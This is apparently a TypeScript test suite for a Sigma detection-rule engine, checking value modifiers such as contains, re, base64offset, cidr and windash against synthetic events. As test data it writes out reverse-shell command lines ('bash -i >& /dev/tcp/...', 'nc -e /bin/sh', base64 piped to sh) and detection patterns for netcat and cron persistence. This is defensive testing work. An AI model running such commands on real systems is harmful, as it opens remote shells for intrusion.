/** Sigma value modifiers, one behaviour each, on hand-built events. */
import { connect, exec, compileOne, matches, ruleText, skipped, fileWrite } from './sigma-support';

const pc = (body: string) => compileOne(ruleText(body));

describe('plain values', () => {
  const rule = pc(`
    selection:
        Image: '/usr/bin/Curl'
    condition: selection`);
  it('equality is case-insensitive by default', () => {
    expect(matches(rule, exec('/usr/bin/curl', ['curl']))).toBe(true);
    expect(matches(rule, exec('/usr/bin/curl2', ['curl2']))).toBe(false);
  });
  it('wildcards * and ? work inside a value; \\* is a literal star', () => {
    const r = pc(`
    selection:
        CommandLine:
            - 'echo ?ello*world'
            - 'literal \\* star'
    condition: selection`);
    expect(matches(r, exec('/bin/echo', ['echo', 'hello', 'big', 'world']))).toBe(true);
    expect(matches(r, exec('/bin/echo', ['echo', 'hhello', 'world']))).toBe(false);
    expect(matches(r, exec('/bin/x', ['literal', '*', 'star']))).toBe(true);
    expect(matches(r, exec('/bin/x', ['literal', 'x', 'star']))).toBe(false);
  });
  it('a list of values is an OR (many values become one set lookup)', () => {
    const r = pc(`
    selection:
        Image:
            - /usr/bin/a
            - /usr/bin/b
            - /usr/bin/c
    condition: selection`);
    expect(matches(r, exec('/usr/bin/B', ['b']))).toBe(true);
    expect(matches(r, exec('/usr/bin/d', ['d']))).toBe(false);
  });
  it('null matches an absent field (no parent) and not a present one', () => {
    const r = pc(`
    selection:
        ParentImage: null
    condition: selection`);
    expect(matches(r, exec('/bin/sh', ['sh']))).toBe(true);
    expect(matches(r, exec('/bin/sh', ['sh'], { parent: { exe: '/sbin/init' } }))).toBe(false);
  });
  it('numbers compare as their decimal text', () => {
    const r = compileOne(
      ruleText(
        `
    selection:
        type: EXECVE
        a1: 777
    condition: selection`,
        { logsource: '    product: linux\n    service: auditd' },
      ),
    );
    expect(matches(r, exec('/usr/bin/chmod', ['chmod', '777', 'x']))).toBe(true);
    expect(matches(r, exec('/usr/bin/chmod', ['chmod', '7777', 'x']))).toBe(false);
  });
});

describe('contains / startswith / endswith / all / cased', () => {
  it('contains, startswith and endswith wrap the value', () => {
    const r = pc(`
    sel_c:
        CommandLine|contains: 'BASE64 -d'
    sel_s:
        CommandLine|startswith: 'nohup '
    sel_e:
        Image|endswith: '/nc'
    condition: 1 of sel_*`);
    expect(matches(r, exec('/bin/sh', ['sh', '-c', 'x | base64 -d | sh']))).toBe(true);
    expect(matches(r, exec('/usr/bin/nohup', ['nohup', 'x']))).toBe(true);
    expect(matches(r, exec('/usr/bin/nc', ['nc']))).toBe(true);
    expect(matches(r, exec('/usr/bin/ncat', ['ncat', 'x nohup ']))).toBe(false);
  });
  it('all requires every value', () => {
    const r = pc(`
    selection:
        CommandLine|contains|all:
            - ' -e '
            - '/bin/sh'
    condition: selection`);
    expect(matches(r, exec('/usr/bin/nc', ['nc', '-e', '/bin/sh', '1.2.3.4']))).toBe(true);
    expect(matches(r, exec('/usr/bin/nc', ['nc', '-e', '/bin/bash']))).toBe(false);
  });
  it('cased makes the match case-sensitive', () => {
    const r = pc(`
    selection:
        CommandLine|contains|cased: ' -O '
    condition: selection`);
    expect(matches(r, exec('/usr/bin/wget', ['wget', '-O', 'x']))).toBe(true);
    expect(matches(r, exec('/usr/bin/wget', ['wget', '-o', 'x']))).toBe(false);
  });
});

describe('re', () => {
  it('is case-sensitive by default and honours the i sub-modifier', () => {
    const r = pc(`
    selection:
        CommandLine|re: '\\s-[FTd]\\s'
    condition: selection`);
    expect(matches(r, exec('/usr/bin/curl', ['curl', '-F', 'x']))).toBe(true);
    expect(matches(r, exec('/usr/bin/curl', ['curl', '-f', 'x']))).toBe(false);
    const ri = pc(`
    selection:
        CommandLine|re|i: 'CURL\\s+-f'
    condition: selection`);
    expect(matches(ri, exec('/usr/bin/curl', ['curl', '-f']))).toBe(true);
  });
  it('accepts a leading (?i) flag group', () => {
    const r = pc(`
    selection:
        Image|re: '(?i)/USR/BIN/PYTHON[0-9.]*$'
    condition: selection`);
    expect(matches(r, exec('/usr/bin/python3.11', ['python3']))).toBe(true);
  });
  it.each([
    ['(a+)+$', /nested quantifier/],
    ['(x|xx)*y', /alternation under an unbounded repeat/],
    ['(a)\\1', /backreferences/],
    ['(?x) a b', /verbose/],
    ['[unclosed', /invalid regular expression/],
  ])('rejects %s at load with the reason and line', (pattern, reason) => {
    const report = skipped(
      ruleText(`
    selection:
        CommandLine|re: '${pattern}'
    condition: selection`),
    );
    expect(report.issues[0]!.code).toBe('value');
    expect(report.issues[0]!.message).toMatch(reason);
    expect(report.issues[0]!.line).toBe(10);
  });
  it('searches only the first 4096 characters: a prefix match of a prefix-sound pattern still counts', () => {
    const r = pc(`
    selection:
        CommandLine|re: '(.){200,}'
    condition: selection`);
    expect(matches(r, exec('/bin/echo', ['echo', 'x'.repeat(10_000)]))).toBe(true);
    expect(matches(r, exec('/bin/echo', ['echo', 'short']))).toBe(false);
  });
  it('an over-long input never makes a rule fire through an unknown regex result, even under not', () => {
    const r = pc(`
    selection:
        Image|endswith: '/echo'
    filter:
        CommandLine|re: 'END$'
    condition: selection and not filter`);
    // Beyond the limit the filter cannot be evaluated: the rule must not fire, although the full text
    // does not end in END (firing on an unevaluated filter would widen the rule).
    expect(matches(r, exec('/bin/echo', ['echo', `${'x'.repeat(5000)} OTHER`]))).toBe(false);
    expect(matches(r, exec('/bin/echo', ['echo', 'short END']))).toBe(false);
    expect(matches(r, exec('/bin/echo', ['echo', 'short']))).toBe(true);
    // In a selection, an anchored pattern over a cut input is unknown too: no match (narrower, never wider).
    const sel = pc(`
    selection:
        CommandLine|re: 'END$'
    condition: selection`);
    expect(matches(sel, exec('/bin/echo', ['echo', 'short END']))).toBe(true);
    expect(matches(sel, exec('/bin/echo', ['echo', `${'x'.repeat(5000)} END`]))).toBe(false);
  });
});

describe('base64 / base64offset / windash', () => {
  it('base64 matches the encoded value', () => {
    const r = pc(`
    selection:
        CommandLine|base64|contains: 'whoami'
    condition: selection`);
    expect(matches(r, exec('/bin/sh', ['sh', '-c', `echo ${Buffer.from('whoami').toString('base64')} | base64 -d | sh`]))).toBe(true);
    expect(matches(r, exec('/bin/sh', ['sh', '-c', 'whoami']))).toBe(false);
  });
  it('base64offset finds the value at any byte offset of a longer encoded text', () => {
    const r = pc(`
    selection:
        CommandLine|base64offset|contains: '/bin/bash -i'
    condition: selection`);
    for (const prefix of ['', 'x', 'xy', 'xyz', 'exec ']) {
      const encoded = Buffer.from(`${prefix}/bin/bash -i >& /dev/tcp/192.0.2.1/4444`).toString('base64');
      expect(matches(r, exec('/bin/sh', ['sh', '-c', `echo ${encoded} | base64 -d | sh`]))).toBe(true);
    }
    expect(matches(r, exec('/bin/sh', ['sh', '-c', `echo ${Buffer.from('/bin/zsh -i').toString('base64')}`]))).toBe(false);
  });
  it('base64offset without contains is refused', () => {
    expect(
      skipped(
        ruleText(`
    selection:
        CommandLine|base64offset: 'x'
    condition: selection`),
      ).issues[0]!.message,
    ).toMatch(/base64offset must be combined with contains/);
  });
  it('windash accepts -, /, en dash, em dash and horizontal bar for option dashes', () => {
    const r = pc(`
    selection:
        CommandLine|windash|contains: ' -exec '
    condition: selection`);
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) {
      expect(matches(r, exec('/usr/bin/find', ['find', '.', `${dash}exec`, 'sh']))).toBe(true);
    }
    expect(matches(r, exec('/usr/bin/find', ['find', '.', '+exec', 'sh']))).toBe(false);
  });
});

describe('cidr, numeric comparisons, exists, fieldref', () => {
  const net = (body: string) => compileOne(ruleText(body, { logsource: '    product: linux\n    category: network_connection' }));
  it('cidr matches IPv4 and IPv6 prefixes', () => {
    const r = net(`
    selection:
        DestinationIp|cidr:
            - '198.51.100.0/24'
            - '2001:db8::/32'
    condition: selection`);
    expect(matches(r, connect('198.51.100.77', 443))).toBe(true);
    expect(matches(r, connect('2001:db8:1::5', 443))).toBe(true);
    expect(matches(r, connect('203.0.113.5', 443))).toBe(false);
    expect(matches(r, connect('2001:db9::1', 443))).toBe(false);
  });
  it('a bad CIDR is reported with its line', () => {
    const report = skipped(
      ruleText(
        `
    selection:
        DestinationIp|cidr:
            - '10.0.0.0/8'
            - '300.1.1.1/8'
    condition: selection`,
        { logsource: '    product: linux\n    category: network_connection' },
      ),
    );
    expect(report.issues).toEqual([expect.objectContaining({ code: 'value', line: 12 })]);
  });
  it('lt / lte / gt / gte compare numbers', () => {
    const r = net(`
    low:
        DestinationPort|lt: 1024
    high:
        DestinationPort|gte: 50000
    condition: low or high`);
    expect(matches(r, connect('198.51.100.1', 80))).toBe(true);
    expect(matches(r, connect('198.51.100.1', 1024))).toBe(false);
    expect(matches(r, connect('198.51.100.1', 50000))).toBe(true);
    const r2 = net(`
    selection:
        DestinationPort|gt: 4000
        SourcePort|lte: 40000
    condition: selection`);
    expect(matches(r2, connect('198.51.100.1', 4444))).toBe(true);
    expect(matches(r2, connect('198.51.100.1', 4000))).toBe(false);
  });
  it('exists tests presence', () => {
    const r = pc(`
    selection:
        ParentCommandLine|exists: true
    condition: selection`);
    expect(matches(r, exec('/bin/sh', ['sh'], { parent: { exe: '/bin/bash', argv: ['bash'] } }))).toBe(true);
    expect(matches(r, exec('/bin/sh', ['sh'], { parent: { exe: '/bin/bash' } }))).toBe(false);
    const absent = pc(`
    selection:
        ParentImage|exists: false
    condition: selection`);
    expect(matches(absent, exec('/bin/sh', ['sh']))).toBe(true);
  });
  it('fieldref compares two fields of the same event', () => {
    const r = pc(`
    selection:
        Image|fieldref: ParentImage
    condition: selection`);
    expect(matches(r, exec('/usr/bin/bash', ['bash'], { parent: { exe: '/usr/bin/BASH' } }))).toBe(true);
    expect(matches(r, exec('/usr/bin/bash', ['bash'], { parent: { exe: '/usr/bin/sh' } }))).toBe(false);
    const ends = pc(`
    selection:
        CommandLine|fieldref|endswith: ParentCommandLine
    condition: selection`);
    expect(matches(ends, exec('/usr/bin/sudo', ['sudo', 'id'], { parent: { exe: '/bin/id', argv: ['id'] } }))).toBe(true);
  });
});

describe('unsupported modifiers are reported, never ignored', () => {
  it.each([
    ['CommandLine|expand: "%pipe%"', /expand/],
    ['CommandLine|wide|base64offset|contains: "x"', /wide/],
    ['CommandLine|utf16le|base64: "x"', /utf16le/],
    ['CommandLine|sorcery: "x"', /unknown modifier sorcery/],
    ['CommandLine|contains|startswith: "x"', /conflicting modifiers/],
  ])('%s', (line, reason) => {
    const report = skipped(ruleText(`\n    selection:\n        ${line}\n    condition: selection`));
    expect(report.status).toBe('skipped');
    expect(report.issues[0]).toEqual(expect.objectContaining({ code: 'modifier', line: 10 }));
    expect(report.issues[0]!.message).toMatch(reason);
  });
});

describe('file_event', () => {
  it('TargetFilename is the written path, or the destination of a rename', () => {
    const r = compileOne(
      ruleText(
        `
    selection:
        TargetFilename|startswith: '/etc/cron.d/'
    condition: selection`,
        { logsource: '    product: linux\n    category: file_event' },
      ),
    );
    expect(matches(r, fileWrite('/etc/cron.d/evil'))).toBe(true);
    expect(matches(r, fileWrite('/tmp/staging', '/usr/bin/mv', 'file_rename', '/etc/cron.d/evil'))).toBe(true);
    expect(matches(r, fileWrite('/etc/cron.daily/x'))).toBe(false);
    expect(r.kinds).toEqual(['file_write', 'file_rename', 'file_link']);
  });
});

describe('prefilter', () => {
  it('finds literals whatever the case, including non-ASCII text that lowercases to ASCII', () => {
    const r = pc(`
    selection:
        CommandLine|contains: 'kelvin'
    condition: selection`);
    expect(r.detection.atoms).not.toBeNull();
    expect(matches(r, exec('/bin/echo', ['echo', 'KELVIN']))).toBe(true);
    // U+212A KELVIN SIGN lowercases to ASCII "k": the full matcher matches, so the prefilter must let it through.
    expect(matches(r, exec('/bin/echo', ['echo', '\u212Aelvin']))).toBe(true);
    expect(matches(r, exec('/bin/echo', ['echo', 'celsius']))).toBe(false);
  });
  it('keeps rules with an indexable branch in every OR and drops the prefilter under not', () => {
    const r = pc(`
    selection:
        Image|endswith: '/nc'
    filter:
        CommandLine|contains: ' -l'
    condition: not filter`);
    expect(r.detection.atoms).toBeNull();
    expect(matches(r, exec('/usr/bin/ls', ['ls']))).toBe(true);
  });
});
